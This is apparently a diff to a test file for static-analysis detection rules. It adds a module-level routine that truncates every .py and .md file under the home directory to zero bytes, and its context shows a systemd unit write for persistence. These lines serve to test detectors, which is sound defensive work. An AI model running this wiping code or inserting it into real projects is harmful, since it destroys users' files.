@@ -414,3 +414,11 @@ def _unit_dir():
 unit_file = _unit_dir() / "devwatch.service"
 # ruleid: persistence-path-method-write, path-method-write
 unit_file.write_text("[Service]\nExecStart=/usr/bin/true\n")
+# files a helper collects with a comprehension over a walk, each truncated
+def _sources(root):
+    return [p for p in pathlib.Path(root).rglob("*") if p.suffix in {".py", ".md"}]
+def _blank(paths):
+    for p in paths:
+        # ruleid: tree-wipe, file-delete
+        os.truncate(p, 0)
+_blank(_sources(pathlib.Path.home()))
